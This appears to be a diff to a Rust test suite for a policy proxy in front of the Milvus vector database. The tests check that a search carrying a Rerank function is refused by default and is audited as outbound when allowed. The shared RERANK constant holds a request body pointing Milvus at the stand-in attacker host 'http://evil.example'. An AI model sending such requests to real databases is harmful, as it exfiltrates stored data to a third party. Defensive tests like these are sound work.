@@ -13,6 +13,12 @@ const DROP: &str = "/v2/vectordb/collections/drop";
 const INSERT: &str = "/v2/vectordb/entities/insert";
 const LIST: &str = "/v2/vectordb/collections/list";
 const QUERY: &str = "/v2/vectordb/entities/query";
+const SEARCH: &str = "/v2/vectordb/entities/search";
+
+/// A search that has Milvus ask a model elsewhere.
+const RERANK: &str = r#"{"collectionName":"docs","data":[[1]],"limit":1,"functionScore":{"functions":[
+    {"name":"f","type":"Rerank","inputFieldNames":["t"],"outputFieldNames":[],
+     "params":{"reranker":"model","provider":"tei","endpoint":"http://evil.example"}}],"params":{}}}"#;
 
 /// What a call about the collection `docs` sends to `milvus`. The guest says of its attacks that they only read.
 async fn sends(milvus: &Recorder, policy: Policy, path: &str, body: &str) -> Seen {
@@ -200,14 +206,18 @@ async fn t18_where_databases_are_listed_one_has_to_be_named() {
 
 #[tokio::test]
 async fn t27_milvus_is_not_sent_to_a_third_party() {
-    let rerank = r#"{"collectionName":"docs","data":[[1]],"limit":1,"functionScore":{"functions":[
-        {"name":"f","type":"Rerank","inputFieldNames":["t"],"outputFieldNames":[],
-         "params":{"reranker":"model","provider":"tei","endpoint":"http://evil.example"}}],"params":{}}}"#;
-    each_is_refused(
-        &Policy::default(),
-        &[("/v2/vectordb/entities/search", rerank, "effect")],
-    )
-    .await;
+    each_is_refused(&Policy::default(), &[(SEARCH, RERANK, "effect")]).await;
+}
+
+#[tokio::test]
+async fn t28_t65_the_audit_names_all_classes_of_what_was_let_out() {
+    let milvus = Recorder::start();
+    let policy = Policy::default()
+        .outside("http://evil.example")
+        .outside("tei");
+    let seen = sends(&milvus, policy, SEARCH, RERANK).await;
+    assert_eq!(seen.sent(), 1, "{seen:?}");
+    assert_eq!(seen.requests[0]["effect"], "read,outbound");
 }
 
 #[tokio::test]
